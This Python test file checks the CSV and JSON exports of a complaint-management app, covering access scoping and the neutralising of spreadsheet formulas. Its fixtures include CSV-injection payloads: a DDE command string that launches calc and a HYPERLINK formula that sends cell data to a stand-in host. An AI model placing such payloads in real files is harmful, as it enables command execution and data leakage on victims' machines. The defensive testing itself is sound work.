"""Issue 14: exports of a filtered list and of a complaint's timeline, CSV (formula cells
neutralised) and JSON, from the API, the CLI and the dashboard, scoped like the reads."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

from closeloop.services.reads.exports import neutralise
from tests.integration.helpers import facts, intake
from tests.web.conftest import web  # noqa: F401

from .test_search import T0

EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1)", "\t=1", "plain -ok"]


def _seed(app, config, clock):
    at = T0 - timedelta(hours=2)
    return intake(app.sessions, config, clock.now(), [
        facts("=cmd|' /C calc'!A0", at, product="Credit reporting", category="Credit reporting",
              issue="+SUM(1,2)", company="@corp", text="-1 refund, 退款"),
        facts("E-2", at + timedelta(minutes=1), product="Student loan", category="Student loan",
              issue="Billing", text="plain"),
    ])


def _csv(text: str) -> list[dict]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_neutralise_every_formula_start():
    assert [neutralise(v) for v in EVIL] == ["'" + v for v in EVIL[:5]] + ["plain -ok"]
    assert neutralise(-3) == -3 and neutralise(None) is None


def test_api_list_and_timeline_exports(api, config, clock):
    a, b = _seed(api.app, config, clock)
    r = api.get("manager", "/exports/complaints", params={"sort": "-received_at"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert 'filename="complaints.csv"' in r.headers["content-disposition"]
    rows = _csv(r.text)
    assert [int(x["id"]) for x in rows] == [b, a]
    evil = rows[1]
    assert evil["external_ref"] == "'=cmd|' /C calc'!A0" and evil["issue"] == "'+SUM(1,2)"
    assert evil["company"] == "'@corp" and evil["received_at"].endswith("+00:00")
    j = api.get("manager", "/exports/complaints", params={"format": "json", "q": "退款"}).json()
    assert [x["id"] for x in j] == [a] and j[0]["external_ref"] == "=cmd|' /C calc'!A0"  # JSON keeps the data
    t = api.get("manager", f"/complaints/{a}/timeline", params={"format": "csv"})
    lines = _csv(t.text)
    assert lines[0]["text"].startswith("complaint") and any(x["text"] == "'-1 refund, 退款" for x in lines)
    assert [x["at"] for x in lines] == sorted(x["at"] for x in lines)
    tj = api.get("manager", f"/complaints/{a}/timeline").json()
    assert len(tj) == len(lines) and {"at", "kind", "complaint_id", "actor", "text"} == set(tj[0])
    assert api.get("member_service", f"/complaints/{a}/timeline").status_code == 200
    assert api.get("member", f"/complaints/{b}/timeline").status_code == 403  # lending: not operations'
    mine = _csv(api.get("member", "/exports/complaints").text)
    assert [int(x["id"]) for x in mine] == [a]
    assert api.get("member", "/exports/complaints", params={"format": "xml"}).status_code == 422


def test_cli_exports(tmp_path, monkeypatch):
    from tests.integration.test_cli import run

    monkeypatch.setenv("CLOSELOOP_DATABASE_URL", f"sqlite:///{tmp_path / 'x.db'}")
    monkeypatch.chdir(tmp_path)
    from tests.conftest import ROOT

    assert run("db", "upgrade").exit_code == 0
    assert run("import", str(ROOT / "examples" / "cfpb_sample.csv")).exit_code == 0
    res = run("complaints", "export", "--format", "json", "-q", "equifax")
    data = json.loads(res.output)
    assert data and all("EQUIFAX" in x["company"].upper() for x in data)
    out = tmp_path / "all.csv"
    assert run("complaints", "export", "--out", str(out)).exit_code == 0
    rows = _csv(out.read_text(encoding="utf-8"))
    assert len(rows) == 271 and all(not r["issue"].startswith(("=", "+", "-", "@")) for r in rows)
    tl = run("complaints", "timeline", "1", "--format", "csv").output
    assert tl.lstrip("\ufeff").startswith("at,kind,complaint_id,actor,text")
    assert run("complaints", "timeline", "99999").exit_code == 1


def test_dashboard_export_links(web, config, clock):  # noqa: F811
    a, b = _seed(web.app, config, clock)
    browser = web.signin("manager")
    page = browser.get("/complaints", params={"q": "退款"}).text
    assert 'href="/exports/complaints.csv?q=%E9%80%80%E6%AC%BE' in page
    rows = _csv(browser.get("/exports/complaints.csv", params={"q": "退款"}).text)
    assert [int(x["id"]) for x in rows] == [a] and rows[0]["company"] == "'@corp"
    assert f'href="/complaints/{a}/timeline.json"' in browser.get(f"/complaints/{a}").text
    assert browser.get(f"/complaints/{a}/timeline.json").json()[0]["complaint_id"] == a
    member = web.signin("member_product")
    assert member.get(f"/complaints/{a}/timeline.csv").status_code == 403
